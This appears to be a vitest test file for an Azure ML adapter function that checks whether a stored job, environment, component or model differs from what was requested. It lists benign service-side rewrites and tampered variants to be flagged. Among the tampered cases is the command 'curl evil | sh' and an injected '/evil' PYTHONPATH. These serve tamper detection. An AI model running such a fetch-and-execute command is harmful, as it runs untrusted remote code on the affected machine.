/** Whether what Azure ML has under a name is what was asked for, in the service's own words or in another's. */
import { describe, expect, test } from 'vitest';

import { differenceOf } from '#shared/adapters/azure-ml/same-work.ts';

type Properties = Readonly<Record<string, unknown>>;

const workspace = '/subscriptions/s/resourceGroups/G/providers/Microsoft.MachineLearningServices/workspaces/W';
const long = 'azureml://subscriptions/s/resourcegroups/g/workspaces/w';
const other = workspace.replace('/W', '/another');

const job = {
  jobType: 'Command',
  command: 'python train.py --data ${{inputs.data}}',
  codeId: `${workspace}/codes/demo-code/versions/abc`,
  environmentId: `${workspace}/environments/demo/versions/def`,
  computeId: `${workspace}/computes/cpu`,
  environmentVariables: { A: '1' },
  inputs: {
    data: { jobInputType: 'uri_folder', uri: 'azureml:rows:1' },
    rate: { jobInputType: 'literal', value: '0.10' },
  },
  outputs: { model: { jobOutputType: 'uri_folder', uri: 'azureml://datastores/whence_ml/paths/whence/r/' } },
  tags: { 'whence.owner': 'me' },
};
const conda = 'name: a\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - pip:\n      - numpy\n';
const component = {
  componentSpec: {
    name: 'x',
    version: '1',
    command: 'a',
    code: `azureml:${job.codeId}`,
    environment: `azureml:${job.environmentId}`,
    inputs: { n: { type: 'integer', optional: true } },
  },
};
const pipeline = {
  jobType: 'Pipeline',
  jobs: { one: { componentId: `${workspace}/components/azureml_anonymous/versions/1`, inputs: {} } },
};

describe('it is the same', () => {
  test.each<[string, Properties, Properties]>([
    ['as it was sent', job, job],
    [
      'with what the service adds',
      job,
      {
        ...job,
        status: 'Running',
        displayName: 'x',
        isArchived: false,
        services: { Studio: {} },
        resources: { instanceCount: 1 },
        limits: null,
        identity: null,
        environmentVariables: { ...job.environmentVariables, AZUREML_X: '1' },
        inputs: { ...job.inputs, data: { ...job.inputs.data, mode: 'ReadOnlyMount', description: null } },
        outputs: { ...job.outputs, default: { jobOutputType: 'uri_folder', uri: `${long}/datastores/a/paths/b` } },
      },
    ],
    [
      'in long forms and other cases',
      job,
      {
        ...job,
        command: `${job.command}\r\n`,
        codeId: job.codeId.replace(workspace, workspace.toLowerCase()),
        environmentId: `azureml:${job.environmentId}`,
        inputs: { data: { uri: `${long}/data/rows/versions/1` }, rate: { value: '0.1' } },
        outputs: { model: { uri: `${long}/datastores/whence_ml/paths/whence/r` } },
      },
    ],
    [
      'an id of data',
      { inputs: { d: { uri: 'rows:1' } } },
      { inputs: { d: { uri: `azureml:${workspace}/data/rows/versions/1` } } },
    ],
    [
      'a file that got a name',
      { outputs: { p: { uri: 'azureml://datastores/a/paths/p/' } } },
      { outputs: { p: { uri: 'azureml://datastores/a/paths/p/p' } } },
    ],
    [
      'placeholders that were filled',
      { outputs: { p: { uri: 'azureml://datastores/a/paths/${{name}}/' } } },
      { outputs: { p: { uri: `${long}/datastores/a/paths/j` } } },
    ],
    ['a default place', { outputs: { p: {} } }, { outputs: { p: { uri: 'azureml://datastores/a/paths/j' } } }],
    [
      'a label',
      { environmentId: 'azureml://registries/azureml/environments/e/labels/latest' },
      { environmentId: 'azureml://registries/azureml/environments/e/versions/12' },
    ],
    [
      'a label of the workspace',
      { environmentId: 'azureml:e@latest' },
      { environmentId: `${workspace}/environments/e/versions/12` },
    ],
    [
      'a conda file as JSON',
      { image: 'a', condaFile: conda },
      {
        image: 'a',
        build: null,
        condaFile: '{"dependencies":["python=3.11",{"pip":["numpy"]}],"channels":["conda-forge"]}',
      },
    ],
    [
      'an image of a build',
      { build: { contextUri: 'https://a/c/x' } },
      { build: { contextUri: 'https://a/c/x/', dockerfilePath: 'Dockerfile' }, image: 'built' },
    ],
    ['a laptop after a restart', { codeUri: 'https://127.0.0.1:5/a/c/x' }, { codeUri: 'https://127.0.0.1:6/a/c/x' }],
    [
      'a component in the service’s words',
      component,
      {
        componentSpec: {
          ...component.componentSpec,
          $schema: 'x',
          version: '9',
          inputs: { n: { type: 'Integer', optional: 'True', default: '1' } },
        },
      },
    ],
    [
      'a binding without its object',
      { jobs: { a: { inputs: { x: { job_input_type: 'literal', value: '${{parent.inputs.x}}' } } } } },
      { jobs: { a: { inputs: { x: '${{parent.inputs.x}}' } } } },
    ],
    [
      'other words for people',
      { dataUri: 'a', description: 'a', tags: {} },
      { dataUri: 'a', description: 'b', tags: { a: 'b' } },
    ],
  ])('%s', (_what, asked, found) => {
    expect(differenceOf(asked, found, workspace)).toBeUndefined();
  });
});

describe('it is not', () => {
  const evil = `${long}/datastores/whence_ml/paths/evil`;
  test.each<[string, Properties, Properties]>([
    [
      'modelUri',
      { modelUri: 'azureml://datastores/whence_ml/paths/r/model/', jobName: 'j' },
      { modelUri: evil, jobName: 'j' },
    ],
    [
      'modelUri',
      { modelUri: 'azureml://datastores/whence_ml/paths/r/' },
      { modelUri: `${long.replace('/w', '/x')}/datastores/whence_ml/paths/r/` },
    ],
    ['jobName', { modelUri: 'a', jobName: 'j' }, { modelUri: 'a', jobName: 'k' }],
    ['modelType', { modelType: 'mlflow_model' }, { modelType: 'custom_model' }],
    [
      'dataUri',
      { dataUri: 'azureml://datastores/whence_data/paths/1/' },
      { dataUri: 'azureml://datastores/whence_data/paths/2/' },
    ],
    [
      'codeUri',
      { codeUri: 'https://a.blob.core.windows.net/whence-code/1' },
      { codeUri: 'https://b.blob.core.windows.net/whence-code/1' },
    ],
    ['codeUri', { codeUri: 'https://a:1/c' }, { codeUri: 'https://a:2/c' }],
    ['codeUri', { codeUri: 'https://a/c' }, { codeUri: 'https://a/c?sig=x' }],
    ['image', { image: 'a' }, { image: 'b' }],
    ['build', { build: { contextUri: 'https://a/c' } }, { image: 'b' }],
    ['build', { image: 'a' }, { image: 'a', build: { contextUri: 'https://a/c' } }],
    ['build.contextUri', { build: { contextUri: 'https://a/c' } }, { build: { contextUri: 'https://a/d' } }],
    [
      'build.dockerfilePath',
      { build: { contextUri: 'a', dockerfilePath: 'a' } },
      { build: { contextUri: 'a', dockerfilePath: 'b' } },
    ],
    ['condaFile', { image: 'a' }, { image: 'a', condaFile: conda }],
    ['condaFile', { image: 'a', condaFile: conda }, { image: 'a', condaFile: conda.replace('numpy', 'evil') }],
    ['condaFile', { image: 'a', condaFile: conda }, { image: 'a', condaFile: ':' }],
    ['componentSpec.command', component, { componentSpec: { ...component.componentSpec, command: 'b' } }],
    [
      'componentSpec.code',
      component,
      { componentSpec: { ...component.componentSpec, code: `azureml:${job.codeId}x` } },
    ],
    [
      'componentSpec.environment',
      component,
      { componentSpec: { ...component.componentSpec, environment: 'azureml:evil:1' } },
    ],
    ['jobType', job, { ...job, jobType: 'Sweep' }],
    ['command', job, { ...job, command: 'curl evil | sh' }],
    ['codeId', job, { ...job, codeId: `${workspace}/codes/evil/versions/abc` }],
    ['codeId', job, { ...job, codeId: job.codeId.replace(workspace, other) }],
    ['codeId', job, { ...job, codeId: null }],
    ['codeId', { command: 'a' }, { command: 'a', codeId: job.codeId }],
    ['environmentId', job, { ...job, environmentId: `${workspace}/environments/demo/versions/evil` }],
    [
      'environmentId',
      { environmentId: 'azureml:e@latest' },
      { environmentId: `${workspace}/environments/f/versions/1` },
    ],
    ['computeId', job, { ...job, computeId: `${workspace}/computes/evil` }],
    ['environmentVariables.A', job, { ...job, environmentVariables: { A: '2' } }],
    ['environmentVariables.PYTHONPATH', job, { ...job, environmentVariables: { A: '1', PYTHONPATH: '/evil' } }],
    ['inputs.data.uri', job, { ...job, inputs: { ...job.inputs, data: { uri: 'azureml:rows:2' } } }],
    ['inputs.data', job, { ...job, inputs: { rate: job.inputs.rate } }],
    ['inputs.rate.value', job, { ...job, inputs: { ...job.inputs, rate: { value: '0.2' } } }],
    ['outputs.model.uri', job, { ...job, outputs: { model: { uri: evil } } }],
    ['outputs.model', job, { ...job, outputs: { default: { uri: evil } } }],
    ['environmentVariables.A', { environmentVariables: { A: 'a@b' } }, { environmentVariables: { A: 'a:evil' } }],
    ['componentSpec.command', { componentSpec: { command: 'a' } }, { componentSpec: { jobs: { a: {} } } }],
    ['jobs', { jobType: 'Command' }, { jobType: 'Command', jobs: { a: {} } }],
    ['trial.command', { trial: { command: 'a' } }, { trial: { command: 'b' } }],
    ['jobs.one.componentId', pipeline, { ...pipeline, jobs: { one: { componentId: 'azureml:evil:1' } } }],
    ['jobs.evil', pipeline, { ...pipeline, jobs: { ...pipeline.jobs, evil: { componentId: 'azureml:evil:1' } } }],
  ])('%s', (member, asked, found) => {
    expect(differenceOf(asked, found, workspace)).toBe(member);
  });
});
